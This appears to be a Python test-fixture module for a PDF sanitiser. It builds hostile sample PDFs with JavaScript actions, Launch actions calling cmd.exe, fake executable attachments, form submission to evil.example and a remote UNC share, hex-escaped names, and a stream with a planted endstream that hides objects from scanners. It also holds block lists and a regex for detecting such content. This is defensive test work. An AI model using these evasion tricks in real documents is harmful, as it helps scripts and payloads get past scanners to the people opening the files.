"""Hostile PDFs, built in the run, and an independent check of what a reader could still run.

``HOSTILE``: name -> (bytes, the labels the sanitiser must report as removed).
Hand-made files (names hex-escaped, actions with no /Type, orphans) and files from
a real writer (pikepdf): a hospital report with a print script, form fields with
keystroke scripts and a submit button, attachments, links, XFA, RichMedia, a
script hidden in a compressed object stream, an owner-password PDF.

``HIDDEN``: active content in places no reader looks (an object stream that no
cross-reference lists, a stream whose data only looks like objects): nothing to
report, and none of it may reach the copy.

``active_content_left`` parses a PDF back with pikepdf and walks every object
reachable from the trailer, then searches the file re-written with every stream
decoded. It shares no code with core.uploads.pdf_disarm on purpose.
"""

from __future__ import annotations

import io
import re
import zlib
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from .upload_samples import object_stream, pdf, stream

JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert('hi')) >>"
REPORT_TEXT = b"(Knee MRI report, left knee) Tj"


# --- Files from a real writer --------------------------------------------------------
def _image(doc: pikepdf.Pdf) -> pikepdf.Stream:
    pixels = bytes((x * 16) % 256 for x in range(16 * 16 * 3))
    return pikepdf.Stream(
        doc,
        zlib.compress(pixels),
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=16,
        Height=16,
        ColorSpace=Name.DeviceRGB,
        BitsPerComponent=8,
        Filter=Name.FlateDecode,
    )


def report(*, pages: int = 1) -> pikepdf.Pdf:
    """A lab report as a hospital system writes it: text in Helvetica and a picture."""
    doc = pikepdf.new()
    font = doc.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    image = doc.make_indirect(_image(doc))
    for _ in range(pages):
        page = doc.add_blank_page(page_size=(612, 792))
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font), XObject=Dictionary(Im0=image))
        content = b"q 100 0 0 100 72 560 cm /Im0 Do Q BT /F1 12 Tf 72 720 Td " + REPORT_TEXT
        page.obj.Contents = doc.make_stream(content + b" ET")
    return doc


def written(doc: pikepdf.Pdf, **save: Any) -> bytes:
    buffer = io.BytesIO()
    doc.save(buffer, **save)
    return buffer.getvalue()


def _js(doc: pikepdf.Pdf, script: str) -> pikepdf.Object:
    return doc.make_indirect(Dictionary(S=Name.JavaScript, JS=String(script)))


def _annotation(doc: pikepdf.Pdf, subtype: Name, **entries: Any) -> pikepdf.Object:
    annot = doc.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=subtype, Rect=Array([72, 72, 200, 100]), **entries)
    )
    page = doc.pages[0].obj
    page.Annots = Array([*page.get("/Annots", Array()), annot])
    return annot


def print_script_report() -> bytes:
    doc = report(pages=2)
    doc.Root.OpenAction = _js(doc, "this.print({bUI: false});")
    doc.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("print"), _js(doc, "this.print();")]))
    )
    return written(doc)


def form_with_scripts_and_submit() -> bytes:
    doc = report()
    keystroke = Dictionary(K=_js(doc, "AFNumber_Keystroke(2);"), F=_js(doc, "event.value=1;"))
    field = _annotation(doc, Name.Widget, FT=Name.Tx, T=String("weight"), AA=keystroke)
    submit = Dictionary(S=Name.SubmitForm, F=String("https://collect.example/form"))
    button = _annotation(doc, Name.Widget, FT=Name.Btn, T=String("send"), A=submit)
    doc.Root.AcroForm = Dictionary(Fields=Array([field, button]))
    return written(doc)


def page_open_script() -> bytes:
    doc = report()
    doc.pages[0].obj.AA = Dictionary(O=_js(doc, "app.launchURL('https://t.example/');"))
    return written(doc)


def attachment_annotation() -> bytes:
    doc = report()
    spec = pikepdf.AttachedFileSpec(doc, b"MZ\x90\x00 payload", filename="results.exe")
    _annotation(doc, Name.FileAttachment, FS=spec.obj, Contents=String("open me"))
    return written(doc)


def attachment_tree() -> bytes:
    doc = report()
    doc.attachments["invoice.pdf.exe"] = pikepdf.AttachedFileSpec(doc, b"MZ payload")
    return written(doc)


def link(action: Dictionary) -> bytes:
    doc = report()
    _annotation(doc, Name.Link, A=action, Border=Array([0, 0, 0]))
    return written(doc)


def goto_then_script() -> bytes:
    doc = report(pages=2)
    action = Dictionary(
        S=Name.GoTo, D=Array([doc.pages[1].obj, Name.Fit]), Next=_js(doc, "app.alert(1);")
    )
    _annotation(doc, Name.Link, A=action)
    return written(doc)


def xfa_form() -> bytes:
    doc = report()
    xfa = doc.make_stream(b"<xdp:xdp><script>xfa.host.gotoURL('x')</script></xdp:xdp>")
    doc.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa, NeedsRendering=True)
    return written(doc)


def rich_media() -> bytes:
    doc = report()
    content = Dictionary(Assets=Dictionary(Names=Array([String("a.swf"), doc.make_stream(b"FWS")])))
    _annotation(doc, Name.RichMedia, RichMediaContent=content)
    return written(doc)


def script_in_object_stream() -> bytes:
    doc = report()
    doc.Root.OpenAction = _js(doc, "app.alert('hidden');")
    return written(doc, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def owner_password_with_script() -> bytes:
    doc = report()
    doc.Root.OpenAction = _js(doc, "this.print();")
    locked = pikepdf.Encryption(
        owner="insurer-owner", user="", allow=pikepdf.Permissions(modify_other=False)
    )
    return written(doc, encryption=locked)


def user_password() -> bytes:
    return written(report(), encryption=pikepdf.Encryption(owner="o-secret", user="u-secret"))


def flate_with_planted_endstream(hidden: bytes) -> bytes:
    """A zlib stream whose first (stored) block holds the word "endstream"."""
    import struct

    planted = b"\nendstream\nendobj\n"
    stored = b"\x00" + struct.pack("<HH", len(planted), len(planted) ^ 0xFFFF) + planted
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    rest = deflater.compress(hidden) + deflater.flush()
    return b"\x78\x9c" + stored + rest + struct.pack(">I", zlib.adler32(planted + hidden))


HOSTILE: dict[str, tuple[bytes, set[str]]] = {
    # Hand-made, as the old byte scanner's corpus had them.
    "openaction-javascript": (pdf(JS_ACTION, catalog_extra=b"/OpenAction 4 0 R"), {"javascript"}),
    "js-only": (pdf(b"<< /Type /Action /JS (app.alert(1)) >>"), {"javascript"}),
    "launch": (
        pdf(b"<< /Type /Action /S /Launch /F (cmd.exe) >>", catalog_extra=b"/OpenAction 4 0 R"),
        {"launch"},
    ),
    "embeddedfiles": (
        pdf(b"<< /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>", catalog_extra=b"/Names 4 0 R"),
        {"embedded_files"},
    ),
    "embeddedfile": (pdf(stream(b"/Type /EmbeddedFile", b"MZ payload")), {"embedded_files"}),
    "richmedia": (pdf(b"<< /Type /Annot /Subtype /RichMedia >>"), {"rich_media"}),
    "xfa": (
        pdf(
            b"<< /Fields [] /XFA 5 0 R >>",
            stream(b"", b"<xdp:xdp/>"),
            catalog_extra=b"/AcroForm 4 0 R",
        ),
        {"xfa"},
    ),
    "submitform": (pdf(b"<< /S /SubmitForm /F (https://evil.example/) >>"), {"form_submission"}),
    "importdata": (pdf(b"<< /S /ImportData /F (data.fdf) >>"), {"form_submission"}),
    "gotoe": (pdf(b"<< /S /GoToE /T << /R /C /N (x) >> >>"), {"embedded_files"}),
    "hex-javascript": (pdf(b"<< /S /J#61vaScript /JS (app.alert(1)) >>"), {"javascript"}),
    "all-hex-javascript": (pdf(b"<< /S /#4A#61#76#61#53#63#72#69#70#74 >>"), {"javascript"}),
    "hex-launch": (pdf(b"<< /S /L#61unch /F (cmd.exe) >>"), {"launch"}),
    "hex-js": (pdf(b"<< /#4a#53 (app.alert(1)) >>"), {"javascript"}),
    "hex-embeddedfile": (pdf(b"<< /Type /Embedded#46ile >>"), {"embedded_files"}),
    "short-name": (pdf(b"<< /JS 5 0 R >>", stream(b"", b"app.alert(1)")), {"javascript"}),
    # From a real writer.
    "print-script-report": (print_script_report(), {"javascript"}),
    "form-scripts-and-submit": (
        form_with_scripts_and_submit(),
        {"automatic_actions", "javascript", "form_submission"},
    ),
    "page-open-script": (page_open_script(), {"automatic_actions", "javascript"}),
    "attachment-annotation": (attachment_annotation(), {"embedded_files"}),
    "attachment-tree": (attachment_tree(), {"embedded_files"}),
    "launch-link": (
        link(Dictionary(S=Name.Launch, F=String("C:\\Windows\\cmd.exe"))),
        {"launch"},
    ),
    "web-link": (
        link(Dictionary(S=Name.URI, URI=String("https://track.example/p/1"))),
        {"external_links"},
    ),
    "remote-goto": (
        link(Dictionary(S=Name.GoToR, F=String("\\\\evil\\share\\x.pdf"), D=Array([0, Name.Fit]))),
        {"external_links"},
    ),
    "goto-then-script": (goto_then_script(), {"javascript"}),
    "xfa-form": (xfa_form(), {"xfa"}),
    "rich-media-annotation": (rich_media(), {"rich_media"}),
    "script-in-object-stream": (script_in_object_stream(), {"javascript"}),
    "owner-password-with-script": (owner_password_with_script(), {"javascript"}),
}

# Hand-made actions and attachments that nothing points to: no reader reaches them,
# but the sanitiser still reports and empties them.
ORPHANS = {
    "js-only",
    "embeddedfile",
    "richmedia",
    "submitform",
    "importdata",
    "gotoe",
    "hex-javascript",
    "all-hex-javascript",
    "hex-launch",
    "hex-js",
    "hex-embeddedfile",
    "short-name",
}

HIDDEN: dict[str, tuple[bytes, bytes]] = {
    # name -> (file, a marker of the hidden payload that must not reach the copy)
    "unlisted-object-stream": (
        pdf(stream(b"/Filter /FlateDecode", zlib.compress(b"q Q")), object_stream(JS_ACTION)),
        b"app.alert",
    ),
    "unlisted-raw-object-stream": (
        pdf(object_stream(b"<< /JS (app.alert(2)) >>", compress=False)),
        b"app.alert",
    ),
    "flate-in-flate-behind-a-lying-dictionary": (
        pdf(
            stream(
                b"/Subtype /Image /Filter /DCTDecode",
                zlib.compress(zlib.compress(b"10 0 " + JS_ACTION)),
            )
        ),
        b"app.alert",
    ),
    "planted-endstream": (
        pdf(
            stream(
                b"/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode",
                flate_with_planted_endstream(b"10 0 " + JS_ACTION),
            )
        ),
        b"app.alert",
    ),
}


# --- The independent check ------------------------------------------------------------
SAFE_ACTIONS = {"/GoTo", "/Named", "/Thread", "/SetOCGState", "/Trans", "/Hide", "/ResetForm"}
RUNNABLE = {
    "/JavaScript",
    "/Launch",
    "/SubmitForm",
    "/ImportData",
    "/GoToR",
    "/GoToE",
    "/URI",
    "/Rendition",
    "/Movie",
    "/Sound",
    "/RichMediaExecute",
    "/GoTo3DView",
}
FORBIDDEN_KEYS = {
    "/JS",
    "/JavaScript",
    "/AA",
    "/EmbeddedFiles",
    "/EF",
    "/XFA",
    "/RichMediaContent",
    "/Collection",
}
PLAYERS = {"/FileAttachment", "/RichMedia", "/Screen", "/Movie", "/Sound", "/3D"}
RAW_NAMES = re.compile(
    rb"/(JavaScript|JS|AA|Launch|EmbeddedFiles?|RichMedia\w*|SubmitForm|ImportData|XFA|GoToE|"
    rb"GoToR|URI|FileAttachment)(?![A-Za-z0-9#])"
)


def _reachable(doc: pikepdf.Pdf) -> list[Any]:
    seen: set[tuple[int, int]] = set()
    found: list[Any] = []
    stack: list[Any] = [doc.trailer]
    while stack:
        obj = stack.pop()
        if not isinstance(obj, pikepdf.Dictionary | pikepdf.Stream | pikepdf.Array):
            continue
        if obj.is_indirect:
            if obj.objgen in seen:
                continue
            seen.add(obj.objgen)
        found.append(obj)
        stack.extend(obj if isinstance(obj, pikepdf.Array) else obj.values())
    return found


def active_content_left(data: bytes) -> list[str]:
    """What a reader could still run or open in ``data``: empty when the copy is inert."""
    left: list[str] = []
    with pikepdf.open(io.BytesIO(data)) as doc:
        if doc.is_encrypted:
            left.append("still encrypted")
        for obj in _reachable(doc):
            if isinstance(obj, pikepdf.Array):
                continue
            where = f"object {obj.objgen}"
            left += [f"{where}: {key}" for key in set(obj.keys()) & FORBIDDEN_KEYS]
            if str(obj.get("/S", "")) in RUNNABLE:
                left.append(f"{where}: action {obj.get('/S')}")
            for key in ("/A", "/OpenAction", "/PA", "/Next"):
                value = obj.get(key)
                runs = str(value.get("/S")) if isinstance(value, pikepdf.Dictionary) else None
                if runs is not None and runs not in SAFE_ACTIONS:
                    left.append(f"{where}: {key} runs {runs}")
            kind, subtype = str(obj.get("/Type", "")), str(obj.get("/Subtype", ""))
            if kind == "/EmbeddedFile" or subtype in PLAYERS:
                left.append(f"{where}: {kind} {subtype}")
    plain = decoded(data)
    left += [f"name in the decoded file: {m.group(0)!r}" for m in RAW_NAMES.finditer(plain)]
    return left


def decoded(data: bytes) -> bytes:
    """``data`` re-written with every stream decoded and no object streams (for searching)."""
    with pikepdf.open(io.BytesIO(data)) as doc:
        return written(
            doc,
            stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            compress_streams=False,
        )
